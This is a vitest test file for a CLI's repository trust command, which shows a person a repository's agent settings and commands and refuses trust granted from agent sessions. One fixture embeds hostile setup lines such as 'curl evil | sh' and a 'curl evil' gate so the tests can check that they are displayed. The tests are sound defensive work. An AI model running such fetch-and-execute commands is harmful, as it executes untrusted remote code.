import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  mkdirSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { expect, test } from 'vitest';
import { trustFilePath } from '../../src/app/trust/trust-file.ts';
import { trustForm } from '../../src/model/schemas/trust.ts';
import { type TempFolder, tempFolder } from '../rig/temp-folder.ts';
import { write } from './project.ts';
import { cli as trustingCli, type CliOptions } from './rig.ts';

/** Nothing is trusted that the test does not trust by a command. */
const cli = (options: CliOptions, ...args: readonly string[]) =>
  trustingCli({ ...options, trusts: false }, ...args);

interface World {
  readonly repo: string;
  readonly place: string;
  readonly file: string;
  readonly env: Readonly<Record<string, string>>;
  readonly git: (...args: readonly string[]) => void;
}

const hooks = '{"hooks":{}}';

/** A repository with settings for an agent, beside the home of the person. */
function world({ path }: TempFolder): World {
  const place = realpathSync(path);
  const [repo, home] = [join(place, 'repo'), join(place, 'home')];
  write(repo, { '.claude/settings.json': hooks, 'CLAUDE.md': 'Be kind.\n', 'sub/a.txt': 'A' });
  mkdirSync(home);
  const git = (...args: readonly string[]): void => {
    execFileSync('git', ['-c', 'user.name=x', '-c', 'user.email=x@x', ...args], { cwd: repo, stdio: 'pipe' });
  };
  git('init', '-q');
  git('add', '-A');
  git('commit', '-q', '-m', 'x');
  const env = { HOME: home };
  return { repo, place, env, file: trustFilePath(env), git };
}

async function shown(folder: string, env: World['env']) {
  const { out, code } = await cli({ folder, env }, 'trust', '--show', '--json');
  return { ...trustForm.parse(JSON.parse(out)), code };
}

test('a person sees what a repository brings and is asked; then it is trusted, its worktrees too, and no copy of it', async () => {
  using folder = tempFolder();
  const { repo, place, env, file, git } = world(folder);
  const terminal = [80, 24] as const;
  const no = await cli({ folder: repo, env, terminal, typed: 'n' }, 'trust');
  expect(no).toMatchObject({ code: 1, err: `Let Tutti and agents use what ${repo} brings? [y/N]: ` });
  expect(no.out).toBe(
    [
      `Settings and commands in ${repo}:`,
      '  .claude/settings.json  claude: can run programs or grant permissions',
      '  CLAUDE.md              claude: text for the model',
      'Nothing was changed\n',
    ].join('\n'),
  );
  expect(await shown(repo, env)).toMatchObject({
    code: 1,
    repository: repo,
    trusted: false,
    trusted_at: null,
  });
  const yes = await cli({ folder: join(repo, 'sub'), env, terminal, typed: 'y' }, 'trust');
  expect(yes).toMatchObject({ code: 0, out: expect.stringMatching(/ is trusted since \S+Z\n$/) });
  expect(statSync(file).mode & 0o777).toBe(0o600);
  expect(statSync(dirname(file)).mode & 0o777).toBe(0o700);
  git('worktree', 'add', '-q', join(place, 'tree'));
  execFileSync('git', ['clone', '-q', repo, 'clone'], { cwd: place, stdio: 'pipe' });
  expect(await shown(join(place, 'tree/sub'), env)).toMatchObject({
    code: 0,
    trusted: true,
    repository: repo,
  });
  expect(await shown(join(place, 'clone'), env)).toMatchObject({ code: 1, trusted: false });
  const again = await cli({ folder: repo, env }, 'trust', '--json');
  expect(trustForm.parse(JSON.parse(again.out))).toMatchObject({ did: 'nothing', trusted: true });
});

test('every setting and command is shown on its own line, so that no long value hides another', async () => {
  using folder = tempFolder();
  const { repo, env } = world(folder);
  const long = 'x'.repeat(3000);
  const settings = [
    'driver: mine',
    `drivers: {mine: {type: command, command: [my-agent, --model, ${long}, --yolo]}}`,
    `env: [A${long}, NPM_TOKEN]`,
    'sandbox: off',
    `workspace: {setup: [[sh, -c, "curl evil | sh"], [${long}], [make]], undeclared: accept}`,
  ];
  const steps = Array.from({ length: 12 }, (_, at) => `  - {id: s${at}, command: [run-${at}, ${long}]}`);
  const gate = '  - {id: last, command: [make], gates: [{command: [curl, evil]}]}';
  write(repo, {
    'tutti.yaml': settings.join('\n'),
    'flows/f.yaml': ['name: f', 'steps:', ...steps, gate].join('\n'),
    'package.json': '{"scripts":{"test":"x"}}',
    ...Object.fromEntries(Array.from({ length: 120 }, (_, at) => [`agents/a${at}.md`, 'Be kind.'])),
  });
  const cut = `${'x'.repeat(200)}… 2,800 more characters`;
  const lines = [
    '    driver: mine',
    `    drivers.mine.command: my-agent --model ${cut} --yolo`,
    `    env: A${'x'.repeat(199)}… 2,801 more characters NPM_TOKEN`,
    '    sandbox: off',
    "    workspace.setup[0]: sh -c 'curl evil | sh'",
    '    workspace.setup[2]: make',
    '    workspace.undeclared: accept',
    `    s11: run-11 ${cut}`,
    '    last (gate): curl evil',
    '  commands that run in each workspace',
    '    npm test',
  ];
  const { out } = await cli({ folder: repo, env }, 'trust', '--show');
  expect(out.split('\n')).toEqual(expect.arrayContaining(lines));
  expect(out).toMatch(/\n {2}agents\/a99\.md +agent: /);
  const asked = { folder: repo, env, terminal: [80, 24], typed: 'n' } as const;
  const { err } = await cli(asked, 'run', 'flows/f.yaml');
  expect(err.split('\n')).toEqual(expect.arrayContaining(lines.slice(0, -2)));
  const seen = (await shown(repo, env)).surfaces.flatMap(({ members }) => members);
  expect(seen).toEqual(
    expect.arrayContaining([
      { name: 'drivers.mine.command', value: ['my-agent', '--model', long, '--yolo'] },
      { name: 'sandbox', value: 'off' },
      { name: 'workspace.setup[0]', value: ['sh', '-c', 'curl evil | sh'] },
      { name: 's11', value: ['run-11', long] },
    ]),
  );
});

test('what changed since is shown and not trusted until a person trusts it again', async () => {
  using folder = tempFolder();
  const { repo, env } = world(folder);
  expect((await cli({ folder: repo, env }, 'trust', '--yes')).code).toBe(0);
  const changes = async () =>
    Object.fromEntries((await shown(repo, env)).surfaces.map(({ path, change }) => [path, change]));
  expect(await changes()).toEqual({ '.claude/settings.json': 'same', 'CLAUDE.md': 'same' });
  write(repo, { '.claude/settings.json': '{}', '.mcp.json': '{}' });
  expect(await changes()).toEqual({
    '.claude/settings.json': 'changed',
    '.mcp.json': 'new',
    'CLAUDE.md': 'same',
  });
  expect(await shown(repo, env)).toMatchObject({ code: 1, trusted: false });
  const doctor = await cli({ folder: repo, env }, 'doctor');
  expect(doctor.out).toMatch(
    /◐ trust .* since then these have changed: \.claude\/settings\.json, \.mcp\.json\n {2}→ .*tutti trust/,
  );
  expect((await cli({ folder: repo, env }, 'trust', '--show')).out).toContain(
    '.mcp.json              claude: can run programs or grant permissions, new since you trusted it',
  );
  const again = await cli({ folder: repo, env }, 'trust', '--yes', '--json');
  expect(trustForm.parse(JSON.parse(again.out))).toMatchObject({ did: 'trusted' });
  expect(new Set(Object.values(await changes()))).toEqual(new Set(['same']));
});

test('trust is taken back by one command, and others keep theirs', async () => {
  using folder = tempFolder();
  const { repo, place, env } = world(folder);
  write(place, { 'other/.mcp.json': '{}' });
  await cli({ folder: repo, env }, 'trust', '--yes');
  expect((await cli({ folder: place, env }, 'trust', 'other', '--yes')).code).toBe(0);
  const revoked = await cli({ folder: repo, env }, 'trust', '--revoke', '--json');
  expect(trustForm.parse(JSON.parse(revoked.out))).toMatchObject({ did: 'revoked', trusted: false });
  expect(await cli({ folder: repo, env }, 'trust', '--revoke')).toMatchObject({
    code: 0,
    out: `Nothing to do: ${repo} is not trusted\n`,
  });
  expect(await shown(join(place, 'other'), env)).toMatchObject({ trusted: true });
});

test.for<[string, (file: string) => void]>([
  [
    'is not what Tutti wrote',
    (file) => {
      writeFileSync(file, '{');
    },
  ],
  [
    'is not what Tutti wrote',
    (file) => {
      writeFileSync(file, '{"version":1,"repositories":{"*":{}}}');
    },
  ],
  [
    'is not what Tutti wrote',
    (file) => {
      writeFileSync(file, '['.repeat(200_000));
    },
  ],
  [
    'can be written by others',
    (file) => {
      chmodSync(file, 0o666);
    },
  ],
  [
    'is a symbolic link',
    (file) => {
      const other = `${file}.other`;
      writeFileSync(other, readFileSync(file));
      rmSync(file);
      symlinkSync(other, file);
    },
  ],
  [
    'is a directory',
    (file) => {
      rmSync(file);
      mkdirSync(file);
    },
  ],
])('a record that %s trusts nothing, and that is said in a sentence', async ([why, spoil]) => {
  using folder = tempFolder();
  const { repo, env, file } = world(folder);
  await cli({ folder: repo, env }, 'trust', '--yes');
  expect(await shown(repo, env)).toMatchObject({ trusted: true, problem: null });
  spoil(file);
  const problem = `no repository is trusted, because ${file} ${why}`;
  expect(await shown(repo, env)).toMatchObject({ code: 1, trusted: false, problem });
  expect((await cli({ folder: repo, env }, 'doctor')).out).toContain(problem);
  expect(await cli({ folder: repo, env }, 'trust', '--yes')).toMatchObject({
    code: 69,
    err: `tutti: ${problem}\n  → look at it, then remove it: rm ${file}\n`,
  });
});

test('who is no person has to say --yes, and an agent may not say it at all', async () => {
  using folder = tempFolder();
  const { repo, env } = world(folder);
  expect(await cli({ folder: repo, env, stdin: 'y\n' }, 'trust')).toMatchObject({
    code: 64,
    err: expect.stringContaining('→ if you mean it, add --yes'),
  });
  expect((await cli({ folder: repo, env }, 'trust', '--json')).err).toContain('add --yes');
  const hosted = { ...env, TUTTI_SESSION_ID: 's1' };
  for (const flag of ['--yes', '--revoke']) {
    expect(await cli({ folder: repo, env: hosted }, 'trust', flag)).toMatchObject({
      code: 3,
      err: expect.stringContaining(
        'only a person may say which repository is trusted, and this comes from session:s1',
      ),
    });
  }
  expect(await shown(repo, env)).toMatchObject({ trusted: false });
  expect(await shown(repo, hosted)).toMatchObject({ trusted: false });
  expect((await cli({ folder: repo, env }, 'trust', '--show', '--revoke')).code).toBe(64);
  expect((await cli({ folder: repo, env }, 'trust', 'nowhere')).code).toBe(64);
});

test('a folder that brings nothing needs no trust, and can have it', async () => {
  using folder = tempFolder();
  const place = realpathSync(folder.path);
  mkdirSync(join(place, 'plain'));
  const options = {
    folder: join(place, 'plain'),
    env: { HOME: place, XDG_STATE_HOME: join(place, 'state') },
  };
  expect((await cli(options, 'doctor')).out).toMatch(/✔ trust .*everything in the repository is trusted/);
  expect((await cli(options, 'init', '--driver', 'claude')).out).not.toContain('trust');
  expect((await cli(options, 'trust', '--yes')).out).toMatch(
    /^Settings and commands in \S+:\n {2}tutti\.yaml .*\n {4}driver: claude\n\S+ is trusted since/,
  );
  expect(readFileSync(join(place, 'state/tutti/trust.json'), 'utf8')).toContain(join(place, 'plain'));
  expect((await cli(options, 'doctor')).out).toMatch(/✔ trust .*is trusted since/);
});

test('a record that cannot be written is told, and nothing is trusted', async () => {
  using folder = tempFolder();
  const { repo, env } = world(folder);
  write(env['HOME'] ?? '', { '.local': 'a file' });
  expect(await cli({ folder: repo, env }, 'trust', '--yes')).toMatchObject({
    code: 69,
    err: expect.stringMatching(
      /^tutti: .*state\/tutti, where Tutti keeps its state, cannot be written: .*\.local is not a directory\n/,
    ),
  });
});

test('init and doctor say what is not used yet, and trust nothing by themselves', async () => {
  using folder = tempFolder();
  const { repo, env } = world(folder);
  const { out } = await cli({ folder: repo, env }, 'init', '--driver', 'claude');
  expect(out).toContain(
    'not used until you trust the repository: .claude/settings.json\n  → look at it: tutti trust\n',
  );
  const { out: json } = await cli({ folder: repo, env }, 'init', '--driver', 'claude', '--json');
  expect(JSON.parse(json)).toMatchObject({ untrusted: ['.claude/settings.json'] });
  expect((await cli({ folder: repo, env }, 'doctor')).out).toMatch(
    /◐ trust .*is not trusted, so Tutti does not use \.claude\/settings\.json\n/,
  );
  expect(await shown(repo, env)).toMatchObject({ trusted: false });
});

test('what changes while a person reads the question is not trusted by the answer', async () => {
  using folder = tempFolder();
  const { repo, env } = world(folder);
  const question = { folder: repo, env, terminal: [80, 24], typed: 'y' } as const;
  const changed = await cli(
    { ...question, onOutput: () => write(repo, { '.claude/settings.json': '{"hooks":{"x":1}}' }) },
    'trust',
  );
  expect(changed).toMatchObject({
    code: 64,
    err: expect.stringContaining(
      `${repo} changed while you were asked about it\n  → look at it again: tutti trust`,
    ),
  });
  expect(await shown(repo, env)).toMatchObject({ trusted: false });
  expect((await cli(question, 'trust')).code).toBe(0);
});

test('the hint about a flow that is not trusted leads to a command that shows and trusts it', async () => {
  using folder = tempFolder();
  const { repo, env } = world(folder);
  write(repo, { 'flow.yaml': 'steps: [{id: a, command: ["true"]}]\n' });
  const asked = { folder: join(repo, 'sub'), env, stdin: '' };
  const run = (): Promise<{ code: number; err: string }> => cli(asked, 'run', '../flow.yaml');
  const { code, err } = await run();
  expect(code).toBe(64);
  const [, words = ''] = /look at it: tutti (.*?);/.exec(err) ?? [];
  expect(words).toBe('trust ../flow.yaml');
  const seen = await cli(asked, ...words.split(' '), '--show');
  expect(seen).toMatchObject({ code: 1, out: expect.stringContaining('\n    a: true\n') });
  expect((await cli(asked, ...words.split(' '), '--yes')).code).toBe(0);
  expect((await cli(asked, ...words.split(' '), '--show')).code).toBe(0);
  expect((await run()).code).toBe(0);
  for (const flag of ['--revoke', '--state'])
    expect((await cli(asked, 'trust', '../flow.yaml', flag)).code).toBe(64);
  write(env['HOME'] ?? '', { 'own.yaml': 'steps: []\n' });
  const own = await cli(asked, 'trust', join(env['HOME'] ?? '', 'own.yaml'));
  expect(own).toMatchObject({ code: 64, err: expect.stringContaining('without being trusted') });
});

test('nothing is called new or changed since a person trusted it where none has', async () => {
  using folder = tempFolder();
  const { repo, env } = world(folder);
  write(repo, { 'tutti.yaml': 'sandbox: off\n', 'package.json': '{"scripts":{"test":"x"}}' });
  const changes = async () => {
    const { surfaces, commands } = await shown(repo, env);
    return new Set([...surfaces, ...commands].map(({ change }) => change));
  };
  write(repo, { '../flow.yaml': 'steps: [{id: a, command: ["true"]}]\n' });
  expect((await cli({ folder: repo, env, stdin: '' }, 'run', '../flow.yaml', '--no-trust')).code).toBe(0);
  expect(readFileSync(trustFilePath(env), 'utf8')).toContain('declined');
  expect(await changes()).toEqual(new Set([null]));
  rmSync(join(repo, 'tutti.yaml'));
  await cli({ folder: repo, env }, 'init', '--driver', 'claude');
  expect(await changes()).toEqual(new Set(['same', null]));
});

test('the last line names what was added since the repository was trusted', async () => {
  using folder = tempFolder();
  const { repo, env } = world(folder);
  await cli({ folder: repo, env }, 'trust', '--yes');
  write(repo, { 'sub/tutti.yaml': 'sandbox: off\n' });
  const { code, out } = await cli({ folder: join(repo, 'sub'), env }, 'trust', '--show');
  expect(code).toBe(1);
  expect(out).toMatch(/ is trusted since \S+Z, except what is new or has changed: sub\/tutti\.yaml\n$/);
});
